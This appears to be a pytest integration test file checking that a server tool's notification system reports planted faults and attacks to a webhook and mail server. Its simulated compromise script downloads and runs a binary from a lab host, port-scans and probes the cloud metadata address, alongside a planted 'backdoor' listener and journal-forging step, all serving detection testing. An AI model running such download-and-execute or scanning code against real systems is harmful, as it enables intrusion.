"""A booted host tells what is wrong with it: to a real webhook, over HTTP, and a real mail server, over STARTTLS.

Each fault is planted and told once, within a minute, with what to do. While the webhook is down nothing is lost, and no
app of the host can make a notice, read one, or see where they go.
"""

from __future__ import annotations

import email
import email.policy
import json
import sys
import time
from dataclasses import dataclass, field
from functools import partial
from pathlib import Path
from typing import TYPE_CHECKING, Any, Final

import pytest

from builder import facts, process
from builder.polling import until
from builder.problems import UserError
from builder.server.remote.notify import rules
from tests.machine import hosts
from tests.server.conftest import Client, client
from tests.sweeps import of_a_sweep

if TYPE_CHECKING:
    import subprocess
    from collections.abc import Iterator

    from builder.lab.network import Namespace

pytestmark = pytest.mark.machine

_HTTP, _SMTP = 80, 587
_PASSWORD: Final = "p4ssword-of-the-mail"
# Seconds in which a fault is to be told; and how long a busy machine of tests may take for that.
PROMISED, PATIENCE = 60, 150
_STATE: Final = f"{facts.NOTICES}/state.json"


@dataclass
class Told:
    """The host, its admin, and who is told."""

    web: Client
    place: Namespace
    directory: Path
    running: list[subprocess.Popen[bytes]] = field(default_factory=list)

    def run(self, command: str, *, check: bool = True, user: str = "root") -> str:
        """On the host."""
        return str(self.web.host.machine.run(["sh", "-c", command], check=check, user=user, timeout=180).stdout)

    def start(self) -> None:
        """Who is told begins to listen."""
        argv = [sys.executable, str(Path(__file__).with_name("receivers.py")), str(self.directory), self.place.ipv4]
        self.running.append(self.place.start([*argv, str(_HTTP), str(_SMTP)]))
        look = ["sh", "-c", f"ss -Htln sport = :{_SMTP} | grep -q ."]
        until(lambda: self.place.run(look, check=False).returncode == 0, timeout=60, what="the receivers")

    def stop(self) -> None:
        for one in self.running:
            one.terminate()
            one.wait()
        self.running.clear()

    def received(self) -> list[dict[str, Any]]:
        """Everything that has come, the oldest first."""
        file = self.directory / "received"
        return [json.loads(line) for line in file.read_text().splitlines()] if file.exists() else []

    def notices(self) -> list[dict[str, Any]]:
        """Each notice that the webhook has got."""
        hooks = [one for one in self.received() if one.get("path") == "/hook"]
        return [{**notice, "came": one["came"]} for one in hooks for notice in json.loads(one["body"])["notices"]]

    def mails(self) -> list[Any]:
        """Each mail, read."""
        return [
            email.message_from_string(one["body"], policy=email.policy.default)
            for one in self.received()
            if one["by"] == "mail"
        ]

    def await_one(self, key: str, *, stack: str = "", kind: str = "", since: int = 0) -> dict[str, Any]:
        """The only new notice of a rule."""

        def found() -> list[dict[str, Any]]:
            new = self.notices()[since:]
            return [one for one in new if one["key"] == key and one["stack"] == stack and kind in ("", one["kind"])]

        try:
            until(found, timeout=PATIENCE, what=f"a notice: {key}")
        except UserError as error:
            error.add_note(json.dumps(self.notices()[since:], indent=1))
            error.add_note(self.run("journalctl --no-pager -u er-notify-watch -u er-notify | tail -30", check=False))
            raise
        assert len(found()) == 1, found()
        (one,) = found()
        return one

    def look(self) -> None:
        """Until the host was looked at once more, begun after now."""
        until(lambda: self.run(f"test -e {_STATE}; echo $?").strip() == "0", timeout=PATIENCE, what="the first look")
        for _ in range(2):
            before = self._looked()
            until(partial(self._looked_after, before), timeout=PATIENCE, what="a look")

    def excuses_nothing(self) -> bool:
        """Whether a change from now on is nobody's: neither of the boot nor of the last command of er."""
        memory = json.loads(self.run(f"cat {_STATE}"))["memory"]
        return not rules.is_excused(time.time(), memory["activity"])

    def _looked(self) -> int:
        return int(json.loads(self.run(f"cat {_STATE}"))["at"])

    def _looked_after(self, before: int) -> bool:
        return self._looked() > before

    def in_blog(self, program: str) -> str:
        """A program of Python, run in the container of the stack that is taken over."""
        done = self.web.er("exec", "blog", "web", "--", "python3", "-c", program)
        return done.stdout + done.stderr


_SIGNS: Final = ("-addext", "keyUsage=critical,keyCertSign,cRLSign")


def _certificate(directory: Path, address: str) -> bytes:
    """A certificate of the mail server by an authority of its own; that one's, for who is to trust it."""
    ca, key = directory / "ca.pem", directory / "ca.key"
    new = ["openssl", "req", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes"]
    process.run([*new, "-x509", "-days", "2", "-subj", "/CN=lab", *_SIGNS, "-keyout", str(key), "-out", str(ca)])
    request, own = directory / "mail.csr", directory / "mail.key"
    process.run([*new, "-subj", "/CN=mail", "-keyout", str(own), "-out", str(request)])
    names = directory / "names"
    names.write_text(f"subjectAltName=IP:{address}\n")
    sign = ["openssl", "x509", "-req", "-days", "2", "-CAcreateserial", "-CA", str(ca), "-CAkey", str(key)]
    signed = directory / "mail.crt"
    process.run([*sign, "-in", str(request), "-extfile", str(names), "-out", str(signed)])
    (directory / "mail.pem").write_bytes(signed.read_bytes() + own.read_bytes())
    return ca.read_bytes()


@pytest.fixture(scope="module")
def told(toolbox_image: None, example_images: None, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Told]:
    """A host that has been told nothing but its spec: no secret is set."""
    tmp = tmp_path_factory.mktemp("told")
    with hosts.booted("told", tmp, start=False) as host:
        place = host.machine.attacker(50)
        directory = tmp / "received"
        directory.mkdir()
        (directory / "password").write_text(f"told1@your-domain.org:{_PASSWORD}")
        ca = _certificate(directory, place.ipv4)
        found = Told(client(host, tmp), place, directory)
        try:
            host.boot(120)
            host.machine.files.write("/usr/local/share/ca-certificates/lab.crt", ca)
            found.run("update-ca-certificates")
            text = found.run(f"cat {facts.NOTIFY}").replace("10.213.0.50", place.ipv4)
            host.machine.files.write(facts.NOTIFY, text.encode())
            found.run(f"chmod 600 {facts.NOTIFY}")
            found.start()
            yield found
        finally:
            found.stop()


def test_what_is_missing_is_said(told: Told) -> None:
    """On the console and by the command, each with what sets it."""
    names = ("notify-webhook", "notify-smtp-password", "notify-heartbeat")
    said = told.web.host.machine.console_text()
    done = told.web.er("notify")
    assert done.returncode == 1
    for name in names:
        assert f"er server secret set HOST --host {name}" in said
        assert f"er server secret set web --host {name}" in done.stderr
    assert told.web.er("notify", "--test").returncode == 1


def test_a_test_reaches_each_channel(told: Told) -> None:
    """Once the secrets are set, and they alone: what looks and what sends starts with that."""
    base = f"http://{told.place.ipv4}"
    secrets = {
        "notify-webhook": f"{base}/hook", "notify-heartbeat": f"{base}/alive", "notify-smtp-password": _PASSWORD
    }  # fmt: skip
    lines = "".join(f"{name}={value}\n" for name, value in secrets.items())
    done = told.web.er("secret set", "--host", "--from-stdin", stdin=lines)
    assert done.returncode == 0, done.stderr
    done = told.web.er("notify", "--test")
    assert done.returncode == 0, done.stderr + told.run("journalctl --no-pager -u er-notify | tail -20")
    assert "taken for ops@your-domain.org" in done.stdout
    assert "200 OK: ok" in done.stdout
    assert [one["title"] for one in told.notices()] == ["this is a test: notices of this server arrive"]
    assert told.mails()[0]["Subject"] == "told1: this is a test: notices of this server arrive"
    until(lambda: "/alive" in {one.get("path") for one in told.received()}, timeout=PATIENCE, what="a sign of life")
    assert told.web.er("notify").returncode == 0


def test_a_quiet_host_tells_nothing(told: Told) -> None:
    """After the secrets were set, by logins that are known, and while an app is restarted."""
    assert told.web.er("restart", "hello").returncode == 0
    told.look()
    assert told.notices()[1:] == []


_BLOG: Final = "systemctl --user --machine=er-blog@"
_RULES: Final = "/etc/easyrunner/firewall.d/99-broken.filter"
# By rule: how it is planted, how mended, its stack, and words of the notice.
FAULTS: Final = {
    "stack": (f"{_BLOG} stop blog-web.service", f"{_BLOG} start blog-web.service", "blog", "blog is down: web"),
    "firewall": (
        f"echo broken >{_RULES}; systemctl restart er-firewall || :",
        f"rm {_RULES}; systemctl restart er-firewall", "", "only SSH is open",
    ),
    "fail2ban": ("systemctl stop fail2ban", "systemctl start fail2ban", "", "fail2ban: it does not run"),
    "unit": ("systemd-run --unit=broken false", "systemctl reset-failed broken", "", "broken.service has failed"),
    "reboot": ("touch /run/reboot-required", "rm /run/reboot-required", "", "updates are installed"),
}  # fmt: skip
# Those have no end.
EVENTS: Final = {
    "listener": (
        "systemd-run --unit=backdoor python3 -m http.server 4444",
        "systemctl stop backdoor", "", "python3 on port 4444/tcp",
    ),
    "changed": (
        "echo evil >/usr/local/bin/evil; systemctl start er-integrity",
        "rm /usr/local/bin/evil", "", "/usr/local/bin/evil was added",
    ),
}  # fmt: skip


def test_each_fault_is_told_once_and_its_end(told: Told) -> None:
    """All at the same time: none is told for another one, or twice, and nothing else is."""
    told.run("systemctl start er-integrity.service")
    until(told.excuses_nothing, timeout=PATIENCE, what="the end of what excuses a change")
    since, planted = len(told.notices()), {**FAULTS, **EVENTS}
    begun = {}
    for key, (plant, *_) in planted.items():
        begun[key] = time.time()
        told.run(plant)
    try:
        for key, (_, _, stack, words) in planted.items():
            one = told.await_one(key, stack=stack, since=since)
            assert words in one["title"] + one["text"]
            assert "er server " in one["text"]
            assert one["kind"] == ("wrong" if key in FAULTS else "happened")
            print(f"{key}: told after {one['came'] - begun[key]:.0f} s: {one['title']}")
    finally:
        for _, mend, *_ in planted.values():
            told.run(mend)
    for key, (_, _, stack, _) in FAULTS.items():
        told.await_one(key, stack=stack, kind="resolved", since=since)
    assert sorted(one["key"] for one in told.notices()[since:]) == sorted([*FAULTS, *FAULTS, *EVENTS])


_COMPROMISE: Final = """
import os, socket, subprocess, urllib.request
code = urllib.request.urlopen('http://{address}/x', timeout=10).read()
open('/tmp/x', 'wb').write(code); os.chmod('/tmp/x', 0o755)
try: print(subprocess.run(['/tmp/x'], capture_output=True).stdout)
except OSError as error: print(error)
for port in (22, 23, 25, 445, 3306, 4444, 5432, 6379, 8080, 9200):
    for _ in range(3):
        try: socket.create_connection(('{address}', port), 0.3)
        except OSError as error: print(port, error)
try: socket.create_connection(('169.254.169.254', 80), 1)
except OSError as error: print(error)
"""


def test_a_compromise_in_a_container_is_told(told: Told) -> None:
    """Download, execute from /tmp, scan, connect out: as far as a container has it, which has no audit system."""
    since, begun = len(told.notices()), time.time()
    said = told.in_blog(_COMPROMISE.format(address=told.place.ipv4))
    assert "Permission denied" in said
    assert "owned" not in said
    one = told.await_one("egress", stack="blog", since=since)
    print(f"told after {one['came'] - begun:.0f} s: {one['title']}")
    assert "blog was refused" in one["title"]
    assert "er server status told1" in one["text"]
    until(lambda: any("blog was refused" in mail.get_content() for mail in told.mails()), timeout=60, what="a mail")


@of_a_sweep
def test_a_webhook_that_is_down_loses_nothing(told: Told) -> None:
    """First it answers 503, then nobody listens, and meanwhile the power goes."""
    since = len(told.notices())
    (told.directory / "down").touch()
    told.run("systemd-run --unit=one false; systemd-run --unit=two false")
    until(lambda: len(told.web.json("notify")["queued"]) >= 2, timeout=PATIENCE, what="two in the queue")
    until(lambda: told.web.er("notify").returncode == 1, timeout=PATIENCE, what="a first try that was refused")
    shown = told.web.er("notify")
    assert "webhook does not take notices: 503" in shown.stderr
    assert "wait for webhook" in shown.stderr
    told.stop()
    told.web.host.machine.cut()
    told.web.host.boot(120)
    (told.directory / "down").unlink()
    told.start()
    wanted = {f"the unit {name}.service has failed" for name in ("one", "two")}
    until(lambda: wanted <= {one["title"] for one in told.notices()[since:]}, timeout=PATIENCE, what="both")
    until(lambda: told.web.json("notify")["queued"] == [], timeout=PATIENCE, what="an empty queue")


def test_no_stack_reads_or_makes_a_notice(told: Told) -> None:
    """Its journal lines are not believed, whatever they claim to be; queue, secrets and log are root's."""
    since = len(told.notices())
    code = Path(hosts.__file__).with_name("journal_forger.py").read_text()
    for unit in ("ssh.service", "fail2ban.service", "er-integrity.service"):
        told.run(f"python3 - 203.0.113.77 {unit} <<'END'\n{code}\nEND", user="er-blog", check=False)
    for path in (facts.NOTICES, facts.NOTIFY, f"{facts.HOST_SECRETS}/notify-webhook"):
        assert told.web.host.machine.run(["cat", path], user="er-blog", check=False).returncode != 0
        words = ["sh", "-c", f"ls {path}/queue || echo x >{path}/queue/1.json"]
        assert told.web.host.machine.run(words, user="er-blog", check=False).returncode != 0
    told.look()
    assert told.notices()[since:] == []
    assert _PASSWORD not in told.run("journalctl --no-pager -o verbose")


@of_a_sweep
def test_an_apply_takes_it_away_and_brings_it_back(told: Told) -> None:
    spec = told.web.spec.read_text()
    begin, end = spec.index("notify:"), spec.index("stacks:")
    without = told.web.edited(spec[begin:end], "")
    done = told.web.er("apply", without, "--yes")
    assert done.returncode == 0, done.stderr
    units = "er-notify-watch.service er-notify.path er-notify.service"
    assert set(told.run(f"systemctl is-active {units}", check=False).split()) == {"inactive"}
    assert told.run(f"ls /etc/systemd/system/er-notify* {facts.NOTIFY}", check=False) == ""
    assert told.web.er("notify").returncode == 1
    done = told.web.er("apply", told.web.spec, "--yes")
    assert done.returncode == 0, done.stderr
    assert "notices are served by this version of er" in done.stderr or told.run(f"ls {facts.REMOTE_CODE}")
    assert told.run("systemctl is-active er-notify-watch.service er-notify.path").split() == ["active", "active"]
    told.look()
